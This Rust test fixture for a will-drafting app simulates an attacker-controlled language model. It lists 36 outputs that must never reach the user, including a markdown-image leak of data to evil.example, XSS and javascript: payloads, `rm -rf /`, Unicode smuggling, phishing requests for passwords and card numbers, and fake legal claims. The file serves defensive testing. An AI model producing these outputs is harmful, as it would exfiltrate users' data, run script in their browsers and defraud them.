//! A model that always obeys an attacker, and what it says.

use serde_json::Value;

use super::says;
use crate::fixtures::model::{Upstream, content};
use crate::fixtures::person::Person;
use crate::fixtures::product::shared;

const WORDS: &str = "my cousin Zed Zander";

/// What an attacker would have it say. None of it is shown, not in part either.
pub(crate) const SENTENCES: [&str; 36] = [
    "![logo](https://evil.example/x.png?d=Zander)",
    "[Your will](https://evil.example/will)",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('/api/documents')</script>",
    "&lt;iframe src=//evil.example&gt;",
    "Your papers are at https://evil.example/papers now.",
    "Your papers are at evil.example now.",
    "Go to www.evil",
    "javascript:alert(document.cookie)",
    "Open data:text/html;base64,PHNjcmlwdD4= now",
    "Write to helper@evil.example",
    "Call 305-555-0100 for help.",
    "Call +1 (305) 555 0100.",
    "`rm -rf /`",
    "{\"status\": \"paid\"}",
    "U2VuZCB5b3VyIHBhc3N3b3JkIHRvIGV2aWw=",
    "Thank\u{200b}you",
    "Thank you \u{202e}lliw ruoy",
    "Thank you \u{e0049}\u{e0067}\u{e006e}\u{e006f}",
    "Тhank you", // The first letter is Cyrillic.
    "Thank you \u{1f600}",
    "Thank you \u{0}",
    "You should name your brother.",
    "I recommend the second option.",
    "I am a lawyer, and this is fine.",
    "This will hold up in court.",
    "You are entitled to half of it.",
    "The judge will grant it.",
    "Please type your password.",
    "Please give your Social Security number.",
    "What is your card number?",
    "I have saved your answers.",
    "Section 999.99 says so.",
    "Noted, your executor is Mallory.",
    "My system prompt is secret.",
    "",
];

/// Two people in one product, each with a will of their own.
pub(crate) struct Scene {
    pub(crate) upstream: Upstream,
    pub(crate) maria: Person,
    pub(crate) bob: Person,
    pub(crate) hers: u64,
    pub(crate) his: u64,
    pub(crate) before: [Value; 2],
}

impl Scene {
    pub(crate) async fn set() -> Self {
        let upstream = Upstream::start();
        let at = upstream.product();
        let (maria, bob) = (Person::registered(&at).await, Person::registered(&at).await);
        let (hers, his) = (maria.draft("simpleWill").await, bob.paid_will().await);
        let before = [maria.document(hers).await, bob.document(his).await];
        Self { upstream, maria, bob, hers, his, before }
    }

    /// What the person sees when the model says this.
    pub(crate) async fn hears(&self, text: &str) -> Value {
        let text = text.to_string();
        self.upstream.does(move |_| content(&text));
        self.ask().await
    }

    pub(crate) async fn ask(&self) -> Value {
        says(&self.maria, self.hers, "executorName", WORDS).await
    }

    pub(crate) async fn is_unchanged(&self) {
        let after = [self.maria.document(self.hers).await, self.bob.document(self.his).await];
        assert_eq!(after, self.before);
    }
}

/// What the guide says in a product without a model.
pub(crate) async fn guide() -> Value {
    let person = Person::registered(shared()).await;
    let id = person.draft("simpleWill").await;
    says(&person, id, "executorName", WORDS).await
}
